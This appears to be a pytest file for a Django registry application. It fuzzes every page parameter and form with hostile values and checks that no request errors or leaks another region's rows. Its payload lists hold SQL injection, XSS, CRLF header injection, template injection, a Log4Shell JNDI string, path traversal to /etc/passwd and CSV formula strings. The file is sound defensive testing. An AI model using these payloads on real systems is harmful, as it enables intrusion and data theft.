"""Hostile values in every search, filter and form: an answer, never an error, never a row of another territory.

`PARAMETERS` names what each page reads from its address. A parameter that the code reads and the table lacks fails.
"""

import csv
import io
import re
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from django.apps import apps
from django.conf import settings
from django.contrib import admin
from django.db import connection
from django.urls import reverse

from accounts.forms import AccessFilterForm, AuditFilterForm, ReceiptFindForm
from accounts.roles import Role
from activities.forms.card import CardFilterForm
from activities.forms.listing import MonthFilterForm
from activities.forms.review import ReviewFilterForm
from associations.actions.graduation import decide_graduation
from associations.forms import BoardFilterForm
from associations.forms.events import EventFilterForm
from associations.forms.partners import PartnerFilterForm
from associations.forms.referrals import ReferralFilterForm
from groups.forms.filters import GroupFilterForm
from groups.models import EnterpriseGroup
from members.forms import MembershipFilterForm, PairFilterForm
from members.models import Person
from regions.clock import local_today
from regions.keyset import AFTER, BEFORE, EXACT
from regions.months import month_of
from tests import factories
from tests.associations.partner_rows import make_agreement, make_product
from tests.imports.register_batches import make_batch
from tests.reading import text_in
from tests.reports.kept import make_run

SECRET_GROUP, SECRET_PERSON, SECRET_VILLAGE = "Kenanga Tersembunyi", "Wulandari Tersembunyi", factories.SENTANI
PAGED = (AFTER, BEFORE, EXACT)
ANSWERS = {200, 302, 400, 404}


def of_group(rows) -> dict:
    return {"number": rows.group.number}


def of_month(rows) -> dict:
    return {"number": rows.group.number, "month": month_of(local_today(rows.group))}


def of_decision(rows) -> dict:
    by = factories.make_user("", Role.REGENCY, "7604")
    decision = decide_graduation(by=by, group=rows.group, outcome="not_yet", reason="Uji")
    return of_group(rows) | {"decision": decision.number}


def of_membership(rows) -> dict:
    return {"number": rows.group.number, "pk": rows.membership.pk}


def of_book(rows) -> dict:
    return {"number": rows.group.number, "book": factories.make_savings(rows.group, rows.membership.person).number}


def of_loan(rows) -> dict:
    return {"number": rows.group.number, "loan": factories.make_loan(rows.group, rows.membership.person).number}


def of_kept(rows) -> dict:
    return {"pk": make_run(rows.regency).pk}


def of_bands(_rows) -> dict:
    return {"pk": factories.make_tiers().pk}


# A cell of the graduation matrix.
CELL = ("dari", "sampai", "awal", "akhir", "gerak")
# View name: (the role that opens it, its parts, what it reads from its address).
PARAMETERS = {
    "account_login": (None, None, ("next", "login")),
    "group_list": (Role.OFFICER, None, (*GroupFilterForm.base_fields, "tempat", *PAGED)),
    "group_register": (Role.OFFICER, None, ("q", "desa")),
    "group_move": (Role.OFFICER, of_group, ("q", "desa")),
    "group_detail": (Role.OFFICER, of_group, ("per",)),
    "rupiah_echo": (Role.OFFICER, None, ("teks",)),
    "search": (Role.OFFICER, None, ("q",)),
    "saved_filter_list": (Role.OFFICER, None, ("daftar", *PAGED)),
    "village_search": (Role.OFFICER, None, ("q", "desa")),
    "job_list": (Role.OFFICER, None, PAGED),
    "admin:activities_reportingperiod_add": (Role.ADMIN, None, ("kind", "start")),
    "card_list": (Role.OFFICER, None, (*CardFilterForm.base_fields, *PAGED)),
    "review_list": (Role.COORDINATOR, None, (*ReviewFilterForm.base_fields, "tempat", "centang", *PAGED)),
    "membership_list": (Role.OFFICER, None, (*MembershipFilterForm.base_fields, *PAGED)),
    "duplicate_list": (Role.REGENCY, None, (*PairFilterForm.base_fields, *PAGED)),
    "member_add": (Role.OFFICER, of_group, ("orang",)),
    "membership_transfer": (Role.OFFICER, of_membership, ("cari_kelompok",)),
    "person_search": (Role.OFFICER, None, ("q", "halaman")),
    "receipt_find": (Role.OFFICER, None, tuple(ReceiptFindForm.base_fields)),
    "handover_list": (Role.REGENCY, None, PAGED),
    "handover_add": (Role.REGENCY, None, ("q", "petugas", "desa")),
    "reminder": (Role.COORDINATOR, None, ("wilayah", "bulan")),
    "board_list": (Role.AKU, None, (*BoardFilterForm.base_fields, *PAGED, "hal")),
    "proposal_list": (Role.REGENCY, None, ("keadaan", "jenis", *PAGED)),
    "graduation_list": (Role.REGENCY, None, ("keadaan", *PAGED)),
    "paper_graduation": (Role.REGENCY, of_decision, ("kertas",)),
    "board_coverage": (Role.AKU, None, ("wilayah", *PAGED)),
    "event_list": (Role.AKU, None, (*EventFilterForm.base_fields, *PAGED)),
    "document_add": (Role.AKU, lambda _rows: {"code": "76"}, ("untuk", "jenis")),
    "board_watch": (Role.AKU, None, ("tingkat", "wilayah", "bagian", "hal")),
    "board_calendar": (Role.AKU, None, ("tingkat", "wilayah")),
    "board_calendar_file": (Role.AKU, None, ("tingkat", "wilayah")),
    "paper_board_reminder": (Role.AKU, lambda _rows: {"code": "76"}, ("kertas",)),
    "board_seat_add": (Role.AKU, lambda rows: {"code": "76", "term_id": rows.term.pk}, ("jabatan",)),
    "partner_list": (Role.AKU, None, (*PartnerFilterForm.base_fields, *PAGED)),
    "partner_product_match": (Role.AKU, lambda rows: {"pk": rows.partner_product.pk}, ("per", *PAGED)),
    "referral_list": (Role.AKU, None, (*ReferralFilterForm.base_fields, *PAGED)),
    "referral_add": (Role.AKU, None, ("kelompok", "produk")),
    "import_list": (Role.OFFICER, None, PAGED),
    "import_detail": (Role.OFFICER, lambda rows: {"pk": rows.batch.pk}, ("tingkat", "aturan", "lembar", *PAGED)),
    "siga_list": (Role.REGENCY, None, PAGED),
    "siga_detail": (Role.REGENCY, lambda rows: {"pk": rows.siga_table.pk}, ("wilayah", "beda", "format")),
    "paper_register": (Role.OFFICER, of_month, ("kertas",)),
    "paper_register_blank": (Role.OFFICER, None, ("wilayah", "bulan")),
    "paper_card_blank": (Role.OFFICER, None, ("wilayah", "tahun")),
    "dashboard": (Role.PROVINCE, None, ("urut",)),
    "dashboard_region": (Role.PROVINCE, lambda rows: {"code": "76"}, ("peta", "kelas", "banding", "urut")),
    "history_region": (Role.PROVINCE, lambda _rows: {"code": "76"}, ("tahun", "format")),
    "published_figures": (Role.PROVINCE, None, ("format",)),
    "recap": (Role.PROVINCE, None, ("wilayah", "tingkat", "urut", "format")),
    "quality_board": (
        Role.REGENCY,
        None,
        ("wilayah", "tingkat", "menurut", "pembina", "tampil", "urut", "format"),
    ),
    "completeness": (Role.PROVINCE, None, ("wilayah", "bulan", "tingkat", "urut", "format")),
    "graduation": (Role.PROVINCE, None, ("wilayah", "dari", "sampai", "tabel", "urut", "format")),
    "graduation_groups": (Role.PROVINCE, None, ("wilayah", *CELL, "format", *PAGED)),
    "tier_preview": (Role.ADMIN, of_bands, ("wilayah", "tingkat", "urut", "format")),
    "catalogue_report": (
        Role.PROVINCE,
        lambda _rows: {"slug": "kelengkapan"},
        ("wilayah", "tingkat", "bulan", "urut", "format", "kertas"),
    ),
    "report_run_list": (Role.PROVINCE, None, PAGED),
    "report_run": (Role.REGENCY, of_kept, ("urut", "format")),
    "report_run_again": (Role.REGENCY, of_kept, ("dengan",)),
    "report_schedule_list": (Role.PROVINCE, None, PAGED),
    "export_start": (Role.REGENCY, lambda _rows: {"listing": "kelompok"}, tuple(GroupFilterForm.base_fields)),
    "export_list": (Role.REGENCY, None, PAGED),
    "savings_list": (Role.OFFICER, of_group, ("per",)),
    "savings_detail": (Role.OFFICER, of_book, ("per",)),
    "savings_entry_add": (Role.OFFICER, of_book, ("jenis",)),
    "loan_list": (Role.OFFICER, of_group, ("per",)),
    "loan_detail": (Role.OFFICER, of_loan, ("per",)),
    "paper_money": (Role.OFFICER, of_group, ("per", "kertas")),
    "report_list": (Role.OFFICER, None, (*MonthFilterForm.base_fields, *PAGED)),
    "audit_list": (Role.AUDITOR, None, (*AuditFilterForm.base_fields, *PAGED)),
    "access_list": (Role.AUDITOR, None, (*AccessFilterForm.base_fields, *PAGED)),
}

WORDS = [
    "'; DROP TABLE groups_enterprisegroup; --",
    "' OR '1'='1",
    "%",
    "_",
    "\\",
    "%' ESCAPE '",
    "\x00",
    "melati\x00",
    "a" * 10_000,
    "😀👩‍👩‍👧",
    "\u202eitalem\u200f",
    "a\r\nSet-Cookie: x=1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7|add:7 }}",
    "${jndi:ldap://x.invalid/a}",
    "../../etc/passwd",
    "=1+1",
    "None",
    "null",
]
NUMBERS = [
    "-1",
    "0",
    "1",
    "99999999999999999999",
    "9" * 400,
    "1e400",
    "NaN",
    "٣٣٠٤",
    "７６",
    "²",
    "7604032004.0",
    "0x76",
]
DATES = ["2026-02-30", "0000-00-00", "9999-12-31", "0001-01-01", "31/02/2026", "10000-01-01", "٣/٣/٢٠٢٦"]
# What every parameter gets, together with the others; those that read a text get all words, each alone.
CORE = ["'; DROP TABLE x; --", "\x00", "a" * 10_000, "😀", "-1", "9" * 20, "٣", "2026-02-30"]
# What every parameter gets alone: what breaks a database, a number and a date.
ALONE = ["\x00", "9" * 20, "-1", "2026-02-30"]
TEXTS = {"q", "barang", "tempat", "oleh", "kode", "teks", "cari_kelompok", "next"}
ROWS = {"desa", "wilayah", "orang"}
PLACES_IN_A_LIST = {AFTER, BEFORE}
DAYS = {"per", "dari", "sampai"}
PLACES = ["0", "91", "76", "9103011001", "91.03.01.1001", "00", "76000", "9" * 10]
CURSORS = ["semua", "1,2", "eyJ4IjoxfQ==", "--", "76" * 30]
# What a page may show wrongly and no database takes amiss: tried once, on SQLite.
SHOWN = {
    "\u202eitalem\u200f",
    "a\r\nSet-Cookie: x=1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7|add:7 }}",
    "${jndi:ldap://x.invalid/a}",
    "../../etc/passwd",
    "=1+1",
    "None",
    "null",
    "0x76",
    "７６",
    "²",
}
# As they stand in the address: bytes that are no text, a bare percent sign, names repeated and made into lists.
RAW = ["{0}=%ff%fe", "{0}=%ED%A0%80", "{0}=%", "{0}=a&{0}=b", "{0}[]=a", "{0}"]


@pytest.fixture
def rows(cast, country):
    """One group with a member in Bumiayu, and what must stay unseen there: one in Papua."""
    factories.make_tiers()
    group = factories.make_group(factories.BUMIAYU, "Melati Terbuka")
    factories.make_capital(group)
    board_term = _term_in("76")
    membership = factories.make_membership(group)
    secret = factories.make_group(SECRET_VILLAGE, SECRET_GROUP)
    stranger = factories.make_membership(secret, factories.make_person(SECRET_VILLAGE, SECRET_PERSON)).person
    return SimpleNamespace(
        group=group,
        membership=membership,
        regency=cast.regency,
        term=board_term,
        secret=secret,
        stranger=stranger,
        partner_product=make_product(make_agreement("76")),
        batch=make_batch(cast.officer, rows=3),
        siga_table=factories.make_siga_table({factories.BUMIAYU: (2, 1), SECRET_VILLAGE: (9, 9)}, region="0"),
    )


def _term_in(code: str):
    board = apps.get_model("associations.Board").objects.create(region_id=code)
    starts_on = factories.date(2024, 1, 1)
    return apps.get_model("associations.BoardTerm").objects.create(
        board=board, starts_on=starts_on, ends_on=starts_on.replace(year=2029)
    )


def values_alone(name: str, rows) -> list[str]:
    """What one parameter gets while the others are absent; the unseen rows' own names and numbers among them."""
    secrets = [SECRET_GROUP, SECRET_PERSON, rows.secret.number, str(rows.secret.pk), str(rows.stranger.pk)]
    values = [*ALONE, *(DATES if name in DAYS else [])]
    if name in TEXTS:
        values = [*WORDS, *NUMBERS, *secrets]
    elif name in ROWS:
        values += [*PLACES, *secrets]
    elif name in PLACES_IN_A_LIST:
        values += [*CURSORS, *secrets]
    return [value for value in values if connection.vendor == "sqlite" or value not in SHOWN]


def queries_alone(name: str, rows) -> list[str]:
    """The query strings for one parameter alone."""
    return [f"{quote(name)}={quote(value)}" for value in values_alone(name, rows)]


def queries_together(parameters) -> list[str]:
    """The query strings with all parameters hostile at once, each time each with another value."""
    forms = [f"{{0}}={quote(value)}" for value in CORE] + RAW
    rounds = range(len(forms))
    return ["&".join(forms[(i + j) % len(forms)].format(quote(n)) for j, n in enumerate(parameters)) for i in rounds]


def assert_harmless(answer, query: str, rows) -> None:
    """An answer without an error, without a foreign row, and without a live tag."""
    assert answer.status_code in ANSWERS, f"{answer.request['PATH_INFO']}?{query[:80]}: {answer.status_code}"
    text = text_in(answer)
    for secret in (SECRET_GROUP, SECRET_PERSON):
        if quote(secret) not in query:
            assert secret not in text, query[:80]
    links = (rows.secret.get_absolute_url(), rows.stranger.get_absolute_url(), f"?desa={SECRET_VILLAGE}")
    assert not [link for link in links if f'href="{link}"' in text], query[:80]
    assert "<script>alert(1)" not in text
    assert "<img src=x" not in text
    assert "x" not in answer.cookies


@pytest.mark.parametrize("name", PARAMETERS)
def test_no_address_breaks_a_page_or_opens_another_territory(name, cast, rows, sign_in):
    """AC02: each parameter with each hostile value: what can reach the database alone, the rest with the others."""
    role, parts, parameters = PARAMETERS[name]
    client = sign_in(cast.inside[role] if role else None)
    path = reverse(name, kwargs=parts(rows) if parts else None)
    alone = [query for parameter in parameters for query in queries_alone(parameter, rows)]
    for query in alone + queries_together(parameters):
        assert_harmless(client.get(path, QUERY_STRING=query), query, rows)
    assert EnterpriseGroup.objects.count() == 2


@pytest.mark.parametrize("name", ["village_search", "rupiah_echo"])
def test_pieces_of_pages_are_as_robust_as_whole_ones(name, cast, rows, sign_in):
    """What htmx asks for while somebody types."""
    client = sign_in(cast.officer)
    parameter = "q" if name == "village_search" else "teks"
    for query in queries_alone(parameter, rows) + queries_together([parameter]):
        assert_harmless(client.get(reverse(name), QUERY_STRING=query, headers={"HX-Request": "true"}), query, rows)


def test_the_search_for_a_person_withstands_the_same(cast, rows, sign_in):
    """SD02: it is posted, so it has no address."""
    client = sign_in(cast.officer)
    for value in [*WORDS, *NUMBERS, *DATES, rows.secret.number]:
        for typed in ({"q": value}, {"q": "siti", "halaman": value}):
            answer = client.post(reverse("person_search"), typed)
            assert_harmless(answer, quote(str(typed)), rows)
    text = client.post(reverse("person_search"), {"q": SECRET_PERSON}).content.decode()
    assert rows.stranger.get_absolute_url() not in text


def test_the_admin_withstands_the_same(cast, rows, sign_in):
    """OP05: words and unknown columns in every list under /kelola/ (signs, page and order: tests/test_admin.py)."""
    client = sign_in(cast.admin)
    for model in admin.site._registry:
        path = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        asked = [("q", value) for value in ("'; DROP TABLE x; --", "😀", "2026-02-30")] + [
            ("id__exact", value) for value in ("-1", "9" * 20, "٣", "\x00")
        ]
        for query in [f"{name}={quote(value)}" for name, value in asked]:
            status = client.get(path, QUERY_STRING=query).status_code
            assert status in ANSWERS, f"{path}?{query[:80]}"


def test_every_parameter_that_is_read_is_tried():
    """The table is complete: a name read from an address anywhere in the code stands in it."""
    read = set()
    rooms = "regions accounts jobs groups members activities associations imports reports uppks"
    for room in rooms.split():
        for file in (settings.BASE_DIR / room).rglob("*.py"):
            read |= set(re.findall(r"""\bGET(?:\.get\(|\.getlist\(|\[)\s*"([^"]+)\"""", file.read_text()))
    tried = {name for _role, _parts, parameters in PARAMETERS.values() for name in parameters}
    assert read
    assert read <= tried


FORMS = {
    "group_register": (Role.OFFICER, None, "?desa=" + factories.BUMIAYU),
    "group_edit": (Role.OFFICER, of_group, ""),
    "group_decree": (Role.OFFICER, of_group, ""),
    "group_business": (Role.OFFICER, of_group, ""),
    "product_add": (Role.OFFICER, of_group, ""),
    "licence_add": (Role.OFFICER, of_group, ""),
    "channel_add": (Role.OFFICER, of_group, ""),
    "capital_add": (Role.OFFICER, of_group, ""),
    "meeting_add": (Role.OFFICER, of_month, ""),
    "report_no_meeting": (Role.OFFICER, of_month, ""),
    "report_submit": (Role.OFFICER, of_month, ""),
    "visit_capital": (Role.OFFICER, of_month, ""),
    "group_status": (Role.OFFICER, of_group, ""),
    "group_stage": (Role.OFFICER, of_group, ""),
    "member_add": (Role.OFFICER, of_group, ""),
    "membership_end": (Role.OFFICER, of_membership, ""),
    "membership_role": (Role.OFFICER, of_membership, ""),
    "membership_transfer": (Role.OFFICER, of_membership, ""),
    "person_edit": (Role.OFFICER, lambda rows: {"pk": rows.membership.person_id}, ""),
    "kb_record_add": (Role.OFFICER, lambda rows: {"pk": rows.membership.person_id}, ""),
    "welfare_record_add": (Role.OFFICER, lambda rows: {"pk": rows.membership.person_id}, ""),
    "person_nik_show": (Role.OFFICER, lambda rows: {"pk": rows.membership.person_id}, ""),
    "board_name_add": (Role.AKU, lambda rows: {"code": "76"}, ""),
    "board_term_add": (Role.AKU, lambda rows: {"code": "76"}, ""),
    "board_term_edit": (Role.AKU, lambda rows: {"code": "76", "term_id": rows.term.pk}, ""),
    "board_term_close": (Role.AKU, lambda rows: {"code": "76", "term_id": rows.term.pk}, ""),
    "board_seat_add": (Role.AKU, lambda rows: {"code": "76", "term_id": rows.term.pk}, ""),
    "import_add": (Role.OFFICER, None, ""),
    "siga_add": (Role.REGENCY, None, ""),
    "export_start": (Role.REGENCY, lambda _rows: {"listing": "anggota"}, ""),
    "report_schedule_add": (Role.REGENCY, None, ""),
    "account_login": (None, None, ""),
    "account_change_password": (Role.OFFICER, None, ""),
}
# What steers a form without standing on it.
STEERING = ("token", "version", "use_person", "to_group", "replaces", "lanjut", "periksa", "own_maksud")
STEERING += ("sama", "daftar", "roster_on", "seen")
POSTED = [*CORE, "\\", "\u202eitalem", "NaN", "1e400", "9999-12-31"]


@pytest.mark.parametrize("name", FORMS)
def test_no_form_breaks_on_what_is_typed(name, cast, rows, sign_in):
    """Each value in every field at once, and in what steers the form: all at once, and each alone with one value."""
    role, parts, query = FORMS[name]
    client = sign_in(cast.inside[role] if role else None)
    path = reverse(name, kwargs=parts(rows) if parts else None) + query
    form, turn = client.get(path).context["form"], list(FORMS).index(name)
    for value in POSTED:
        answer = client.post(path, dict.fromkeys(form.fields, value))
        assert answer.status_code in ANSWERS | {409, 429}, f"{name}: {value[:40]!r}: {answer.status_code}"
        assert "<script>alert(1)" not in answer.content.decode()
    values = ("\x00", "-1", "9" * 30, "٣")
    steered = [dict.fromkeys(STEERING, value) for value in values]
    steered += [{field: values[(turn + i) % len(values)]} for i, field in enumerate(STEERING)]
    for typed in steered:
        answer = client.post(path, typed)
        assert answer.status_code in ANSWERS | {409, 429}, f"{name}: {typed}: {answer.status_code}"
    assert SECRET_VILLAGE not in EnterpriseGroup.objects.filter(pk=rows.group.pk).values_list("village_id", flat=True)
    assert Person.objects.filter(pk=rows.stranger.pk, village_id=SECRET_VILLAGE).exists()


def test_a_hostile_name_is_only_text_wherever_it_stands(cast, rows, sign_in):
    """A name is shown as it was typed, on every page that shows it."""
    name = "<script>alert(1)</script>"
    rows.group.name = name
    rows.group.save(update_fields=["name"])
    rows.membership.person.name = name
    rows.membership.person.save(update_fields=["name"])
    client = sign_in(cast.officer)
    addresses = [
        reverse("group_list"),
        rows.group.get_absolute_url(),
        reverse("roster", args=[rows.group.number]),
        reverse("membership_list"),
        rows.membership.person.get_absolute_url(),
        reverse("group_summary", args=[rows.group.number]),
        reverse("home"),
    ]
    pages = [client.get(address).content.decode() for address in addresses]
    assert not [address for address, page in zip(addresses, pages, strict=True) if name in page]
    assert sum("&lt;script&gt;alert(1)" in page for page in pages) >= 6


@pytest.mark.parametrize("name", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1"])
def test_no_cell_of_a_file_is_a_formula(name, cast, rows, country, sign_in):
    """RP03: a spreadsheet that opens the file computes nothing."""
    region = country["7604"]
    region.name = name
    region.save(update_fields=["name"])
    answer = sign_in(cast.province).get(reverse("recap"), {"wilayah": "76", "tingkat": "kabupaten", "format": "csv"})
    text = answer.content.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in line]
    assert any("1" in cell and cell.startswith("'") for cell in cells)
    assert not [cell for cell in cells if re.match(r"[=+@\t\r]|-(?!\d+(,\d+)?$|$)", cell)]
